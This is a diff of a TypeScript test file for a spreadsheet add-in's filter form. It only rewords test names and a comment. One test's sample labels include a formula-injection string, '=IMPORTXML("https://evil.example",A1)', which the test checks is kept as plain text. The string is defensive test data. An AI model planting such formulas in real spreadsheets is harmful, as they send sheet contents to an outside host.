@@ -9,7 +9,7 @@ interface Served {
   readonly value_shape?: string;
 }
 
-/** Serves these filters and no others; a filter whose options are none has an empty dropdown. */
+/** Serves exactly these filters; a filter without options has an empty dropdown. */
 async function serving(filters: readonly Served[]): Promise<OpenAddin> {
   const addin = await openAddin();
   const all = filters.map(({ filter, options, value_shape = "list[string]" }) => ({
@@ -37,7 +37,7 @@ const formulasOf = ({ sheet }: FilterForm): string[] =>
     .filter((formula) => formula !== "");
 
 describe("A filter form over an odd catalogue", () => {
-  it("offers 600 values, and nothing for a filter without any", async () => {
+  it("offers 600 values, and nothing for a filter without values", async () => {
     const options = Array.from({ length: 600 }, (_, index) => ({
       value: `V${index}`,
       label: `Value ${index}`,
@@ -64,7 +64,7 @@ describe("A filter form over an odd catalogue", () => {
     expect(form.shown(FIRST + 2, CHECK)).toBe("ok");
   });
 
-  it("keeps what looks like a formula, a date or a number as the text that it is, offered or chosen", async () => {
+  it("keeps text that looks like a formula, a date or a number as text, whether offered or chosen", async () => {
     const labels = [
       "=1+1",
       '=IMPORTXML("https://evil.example",A1)',
@@ -98,7 +98,7 @@ describe("A filter form over an odd catalogue", () => {
     expect(addin.credits).toBe(0);
   });
 
-  it("tells apart values that share a name, and filters that do", async () => {
+  it("distinguishes values with the same name, and filters with the same name", async () => {
     const options = [
       { value: "A1", label: "Trade" },
       { value: "A2", label: "Trade" },
@@ -121,7 +121,7 @@ describe("A filter form over an odd catalogue", () => {
     expect(form.shown(FIRST + 2, CHECK)).toMatch(/^⚠ No such value: “Trade”/);
   });
 
-  it("is made where no filter has values to choose from", async () => {
+  it("is created even if no filter has values to choose from", async () => {
     const addin = await serving([{ filter: "a.typed" }, { filter: "a.years", value_shape: "range of int" }]);
     const form = await FilterForm.inserted(addin);
 
